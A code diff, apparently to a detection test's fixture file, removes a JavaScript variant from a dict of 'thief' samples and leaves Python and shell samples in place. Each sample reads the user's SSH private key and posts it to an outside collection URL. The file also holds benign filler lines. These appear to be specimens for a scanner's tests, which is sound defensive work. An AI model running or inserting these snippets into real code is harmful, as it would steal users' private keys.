@@ -18,8 +18,6 @@ THIEVES = {
     "a.py": b"import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
     b"requests.post('https://collect.author-tools.dev/k', data=key)\n",
     "a.sh": b'key=$(base64 < ~/.ssh/id_rsa)\n\ncurl -s -d "$key" https://collect.author-tools.dev/k\n',
-    "a.js": b"const fs = require('fs');\nconst key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');\n"
-    b"fetch('https://collect.author-tools.dev/k', {method: 'POST', body: key});\n",
 }
 #: The line of the thief that sends.
 SENDS = 3
@@ -27,13 +25,11 @@ FILLERS = {
     "comment": {
         "a.py": b"# a line of filler\n",
         "a.sh": b"# a line of filler\n",
-        "a.js": b"// a line of filler\n",
     },
-    "statement": {"a.py": b"x = 1\n", "a.sh": b"echo step\n", "a.js": b"const x = [1, 2, 3];\n"},
+    "statement": {"a.py": b"x = 1\n", "a.sh": b"echo step\n"},
     "function": {
         "a.py": b"def add(a, b):\n    return a + b\n\n",
         "a.sh": b'step() {\n  local n=1\n  echo "$n" | sort\n}\n',
-        "a.js": b"function add(a, b) { return a.map(x => x + b); }\n",
     },
 }
 
